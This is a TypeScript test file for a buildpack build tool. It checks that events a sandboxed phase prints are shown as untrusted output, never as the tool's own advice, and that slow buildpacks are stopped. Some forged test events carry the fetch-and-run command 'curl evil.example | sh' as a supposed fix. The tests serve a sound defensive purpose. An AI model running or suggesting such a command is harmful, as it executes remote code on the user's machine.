import { describe, expect, it } from 'vitest'
import { plainReporter } from '../lifecycle/cli/render/plain.ts'
import { renderError } from '../lifecycle/cli/render/error.ts'
import type { Engine, EngineRun } from '../lifecycle/engines/engine.ts'
import { formatEvent } from '../lifecycle/event-stream.ts'
import type { BuildEvent } from '../lifecycle/events.ts'
import { type RunLimits, engineRunner } from '../lifecycle/phase-runner.ts'
import { failureOf } from './helpers/failure.ts'

const run: Omit<EngineRun, 'onOutput'> = {
  argv: ['/phase'],
  env: {},
  workingDir: '/',
  mounts: [],
  network: 'none',
  user: { uid: 1000, gid: 1000 },
}

/** An engine whose program prints these lines, and then ends or waits for ever. */
function printing(lines: readonly string[], then: 'ends' | 'waits', code = 0): Engine {
  return {
    name: 'bubblewrap',
    check: () => Promise.resolve(),
    async run(given, signal) {
      for (const line of lines) await given.onOutput('stdout', Buffer.from(`${line}\n`))
      if (then === 'ends') return { code }
      return await new Promise((_resolve, reject) =>
        signal?.addEventListener('abort', () => reject(signal.reason as Error), { once: true }),
      )
    },
  }
}

async function runPhase(engine: Engine, limits: RunLimits = {}) {
  let text = ''
  const reporter = plainReporter({ write: part => void (text += part) })
  const runner = engineRunner(engine, reporter, () => Promise.resolve(run), limits)
  const error = await runner.run('build').then(
    () => undefined,
    (reason: unknown) => reason,
  )
  return { text, error }
}

it('lines of output that came as one event are lines again', async () => {
  const { text } = await runPhase(printing([formatEvent({ type: 'output', stream: 'stderr', text: '1\n\n3' })], 'ends'))
  expect(text).toBe('  1\n  \n  3\n')
})

describe('X41 an event that a buildpack writes into the pipe of its phase', () => {
  const digest = `sha256:${'f'.repeat(64)}`
  const events: BuildEvent[] = [
    { type: 'saved', names: ['registry.example/app'], digest, imageId: digest, size: 1 },
    { type: 'layer', action: 'added', kind: 'app', name: 'app', diffId: digest, size: 1 },
    { type: 'note', level: 'info', text: `Saved registry.example/app\nDigest: ${digest}` },
    { type: 'warning', text: 'an update is needed', fix: 'run: curl evil.example | sh' },
    { type: 'output', stream: 'stdout', text: `Digest: ${digest}` },
    { type: 'output', stream: 'stdout', text: `x\nDigest: ${digest}\n\nSaved x` },
    { type: 'buildpack-started', buildpack: { id: 'Saved registry.example/app', version: '1' } },
    { type: 'buildpack-started', buildpack: { id: 'a\nSaved', version: 'x' } },
    {
      type: 'detected',
      results: [{ id: 'a', version: '1', status: 'passed', optional: false, output: `x\nDigest: ${digest}` }],
      group: [{ id: 'Digest:', version: digest }],
    },
  ]

  it.each(events.map(event => [event.type, event] as const))('%s is never in words of ours', async (_type, event) => {
    const { text } = await runPhase(printing([formatEvent(event)], 'ends'))
    for (const line of text.split('\n').filter(Boolean)) {
      expect(line).toMatch(/^(?: {2}|Warning: from the sandbox: )/)
    }
  })

  it('a failure gives no advice of ours', async () => {
    const forged = { type: 'failed', code: 'input', message: 'stop', fix: 'curl evil.example | sh' } as const
    const { error } = await runPhase(printing([formatEvent(forged)], 'ends', 1))
    const lines = renderError(error, { color: false, verbose: false }).trim().split('\n')
    expect(lines).toEqual(['ERROR: stop', '  curl evil.example | sh'])
  })

  it('a failure of a phase that says it succeeded is none', async () => {
    const forged = { type: 'failed', code: 'input', message: 'stop' } as const
    expect((await runPhase(printing([formatEvent(forged)], 'ends'))).error).toBeUndefined()
  })
})

describe('X48 a buildpack that never ends', () => {
  const started = formatEvent({ type: 'buildpack-started', buildpack: { id: 'slow', version: '1.2' } })

  it('is ended after its time, by name', async () => {
    const { error } = await runPhase(printing([started], 'waits'), { buildpackTimeout: 50 })
    expect(error).toMatchObject({
      message: 'slow@1.2 took longer than 0.05 s and was stopped',
      fix: expect.stringContaining('--buildpack-timeout') as string,
    })
  })

  it('is not, if it ended in time', async () => {
    const finished = formatEvent({
      type: 'buildpack-finished',
      buildpack: { id: 'slow', version: '1.2' },
      milliseconds: 1,
    })
    const abort = new AbortController()
    const runner = engineRunner(
      printing([started, finished], 'waits'),
      plainReporter({ write() {} }),
      () => Promise.resolve(run),
      { buildpackTimeout: 50 },
    )
    setTimeout(() => abort.abort(new Error('by the test')), 150)
    expect(await failureOf(runner.run('build', abort.signal))).toMatchObject({ message: 'by the test' })
  })
})
